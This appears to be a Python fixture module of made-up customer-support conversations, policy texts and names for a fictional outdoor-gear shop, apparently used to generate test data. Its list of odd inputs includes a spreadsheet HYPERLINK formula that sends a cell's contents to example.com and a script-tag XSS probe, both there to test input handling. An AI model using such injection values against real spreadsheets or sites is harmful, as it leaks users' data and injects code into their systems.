"""The words of made-up support conversations of a shop for outdoor gear."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Topic:
    """What a conversation is about: a title, questions with their answers, and how it goes on."""

    name: str
    title: str
    openings: tuple[tuple[str, str], ...]
    follow_ups: tuple[tuple[str, str], ...]
    tool: str | None = None


TOPICS = (
    Topic(
        "shipping",
        "Where is my order",
        (
            ("Where is my order {order}?", "{order} is with the carrier and arrives within two days."),
            (
                "My parcel {order} should have been here on Monday. What happened?",
                "I am sorry for the wait. The carrier has it at its depot and delivers tomorrow.",
            ),
            (
                "hi, tracking for {order} has not moved in 4 days",
                "I have asked the carrier to look for {order}. If it is lost, we send it again at once.",
            ),
        ),
        (
            (
                "Can I change the delivery address?",
                "Not any more once it has shipped. You can pick it up at a shop.",
            ),
            ("Will I get a text message?", "Yes, the carrier sends one on the morning of the delivery."),
        ),
        tool="get_order_status",
    ),
    Topic(
        "refunds",
        "Refund for a return",
        (
            (
                "I sent the jacket back two weeks ago and still have no refund.",
                "I see your parcel arrived on Friday. The refund reaches you within 7 working days.",
            ),
            (
                "How long does a refund take?",
                "Refunds take 5 to 7 working days after the parcel reaches us.",
            ),
            (
                "Please refund order {order}, it arrived damaged",
                "I am sorry about that. A refund for {order} is on its way to your payment method.",
            ),
        ),
        (
            ("Can I get store credit instead?", "Yes. Store credit is added at once and does not expire."),
            ("Do I pay for the return label?", "No, returns are free within 30 days."),
        ),
    ),
    Topic(
        "billing",
        "Question about an invoice",
        (
            (
                "I was charged twice for order {order}",
                "I see one charge and one reservation. The reservation disappears within three days.",
            ),
            (
                "Where can I download my invoice?",
                "You find invoices under Account, then Orders. Each one can be saved as a PDF.",
            ),
            (
                "Our accounting needs the VAT number on the invoice, can you add it?",
                "Yes. Enter it under Account, then Company, and I write the invoice anew.",
            ),
        ),
        (
            ("Can you send it to billing@example.com?", "Sure, I have sent it there."),
            ("And for last year?", "Invoices stay in your account for ten years."),
        ),
    ),
    Topic(
        "account",
        "Cannot sign in",
        (
            (
                "I can't log in, the password reset mail never arrives",
                "Please check the spam folder. The mail comes from no-reply@example.com.",
            ),
            (
                "How do I change the e-mail address of my account? It is now {email}",
                "Open Account, then Profile, and enter {email}. We send a link to confirm it.",
            ),
            (
                "Please delete my account",
                "Open Account, then Privacy, and choose Delete. It takes effect after 14 days.",
            ),
        ),
        (
            ("That does not work.", "Then I pass this on to a colleague, who will call you at {phone}."),
            ("That worked, thanks!", "Glad to hear it. Have a good day!"),
        ),
    ),
    Topic(
        "product",
        "Which tent to choose",
        (
            (
                "Is the Ridge 2 tent waterproof?",
                "Yes, the Ridge 2 has a water column of 4,000 mm, and all seams are taped.",
            ),
            (
                "Which sleeping bag do you recommend for -10°C?",
                "For -10°C we recommend the Polar 400. Its comfort limit is -12°C.",
            ),
            (
                "Does the 45L backpack fit as cabin luggage?",
                "With most airlines, yes: it measures 55 x 35 x 22 cm.",
            ),
        ),
        (
            ("How heavy is it?", "It weighs 2.1 kg."),
            ("Is it in stock?", "Yes, in green and in grey. Delivery takes two to three days."),
        ),
    ),
    Topic(
        "warranty",
        "Broken zip",
        (
            (
                "The zip of my jacket broke after 3 months",
                "Zips are covered for two years. Please send us a photo, and we start the repair.",
            ),
            ("Do you repair hiking boots?", "Yes, we resole most boots. A repair takes about three weeks."),
            (
                "What does the warranty cover?",
                "All faults of material and make, for two years. Wear is not covered.",
            ),
        ),
        (
            ("Here is the photo.", "Thank you, that is a case for the warranty. The label is in your inbox."),
            ("What if I lost the receipt?", "The order number is enough."),
        ),
    ),
    Topic(
        "hours",
        "Opening hours",
        (
            ("When is the shop in Berlin open?", "It is open Monday to Saturday from 10 am to 7 pm."),
            ("Are you open on Easter Monday?", "No, our shops are closed on public holidays."),
            ("Can I pick up an order on Sunday?", "Not in our shops, but at the parcel station nearby."),
        ),
        (("And the phone line?", "You reach us on weekdays from 9 am to 5 pm."),),
    ),
    Topic(
        "discount",
        "Discount code does not work",
        (
            (
                "The code SPRING10 does not work",
                "SPRING10 is valid for orders from 50 €. Your cart is just below that.",
            ),
            (
                "Do you have a student discount?",
                "Yes, students get 10 % off. Upload your card under Account, then Benefits.",
            ),
            ("Can I combine two vouchers?", "I am sorry, only one voucher can be used for each order."),
        ),
        (("Can you make an exception?", "I cannot, but I can offer free shipping for this order."),),
    ),
)

CLOSINGS = (
    ("Thanks, that is all.", "You are welcome!"),
    ("ok thx", "Happy to help. Bye!"),
    ("That did not help at all.", "I am sorry. I have asked a colleague to look into it."),
)

HUMAN_REPLY = "Hello, this is Kim from the support team. I took over and will look into this personally."

ODD_TEXTS = (
    "Où est ma commande ? J'ai payé 1 234,50 € 😡😡",
    "أين طلبي؟ رقم الطلب {order}",
    "איפה ההזמנה שלי? \u200f{order}\u200f",
    "返品したいのですが、送料はかかりますか。🙏🏽",
    '=HYPERLINK("http://example.com/?x="&A1,"Click me")',
    "+49 30 1234567 is my number, please call",
    "-10% discount? @everyone",
    'He said "no", then hung up;\nline two, with a comma\r\nline three\tand a tab',
    "My e-mail is {email}, my phone is {phone}.",
    "Zero\u200bwidth, line\u2028separator, combining e\u0301, flag 🇩🇪, family 👨‍👩‍👧‍👦",
    "<script>alert('x')</script> & <b>bold</b>",
    "   leading and trailing spaces   ",
    "NULL",
    "\\N \\\\ C:\\temp\\new {{ ds }}",
)

_SHIPPING = (
    "Orders ship within one working day. Delivery inside Germany takes two to three days. "
    "Shipping is free from 60 €. Express delivery costs 9.90 € and arrives the next working day. "
    "International delivery takes five to ten days."
)
_RETURNS = (
    "You can return anything within 30 days. Returns are free of charge. "
    "Refunds take 5 to 7 working days after the parcel reaches us. "
    "Damaged items are replaced or refunded at once."
)
_WARRANTY = (
    "All products have a warranty of two years. Zips and seams are repaired free of charge. "
    "A repair takes about three weeks. Boots can be resoled for 79 €."
)
TEXT_SOURCES = (
    ("Shipping policy", _SHIPPING),
    ("Returns and refunds", _RETURNS),
    ("Warranty and repairs", _WARRANTY),
)
QNA_SOURCES = (
    (
        "Opening hours",
        ("When are you open?", "What are your opening hours?"),
        "Our shops are open Monday to Saturday from 10 am to 7 pm.",
    ),
    (
        "Contact",
        ("How can I reach a human?", "What is your phone number?"),
        "You reach our team on weekdays from 9 am to 5 pm at +49 30 5550199.",
    ),
)
LINK_SOURCE = "https://shop.example.com/help"
INSTRUCTIONS = (
    "You are the support agent of Ridgeline, a shop for outdoor gear. "
    "Answer shortly and politely, and only from the given sources."
)
FIRST_NAMES = (
    "Anna",
    "Ben",
    "Chidi",
    "Dana",
    "Elif",
    "Farid",
    "Grace",
    "Hiro",
    "Ines",
    "Jamal",
    "Kim",
    "Lucía",
)
LAST_NAMES = ("Adler", "Baker", "Chen", "Diallo", "Evans", "Fischer", "García", "Haddad", "Ito", "Jensen")
